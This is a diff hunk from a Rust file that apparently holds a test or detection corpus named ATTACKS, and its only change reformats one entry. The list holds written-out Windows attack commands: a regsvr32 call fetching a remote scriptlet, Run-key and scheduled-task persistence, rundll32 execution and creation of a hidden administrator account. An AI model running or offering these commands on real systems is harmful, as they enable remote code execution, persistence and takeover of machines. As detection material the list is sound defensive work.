@@ -27,7 +27,10 @@ pub const ATTACKS: [(Trace, &str); 44] = [
     (Trace::Command, "wmic process call create calc.exe"),
     (Trace::Command, "rundll32.exe C:\\Users\\Public\\x.dll,Start"),
     (Trace::Command, "regsvr32.exe /s /u /i:http://203.0.113.7/f.sct scrobj.dll"),
-    (Trace::Command, "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v upd /d C:\\Users\\Public\\u.exe"),
+    (
+        Trace::Command,
+        "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v upd /d C:\\Users\\Public\\u.exe",
+    ),
     (Trace::Command, "schtasks /create /tn upd /tr C:\\Users\\Public\\u.exe /sc minute"),
     (Trace::Command, "net user support2 Secret123 /add"),
     (Trace::Command, "net localgroup administrators support2 /add"),
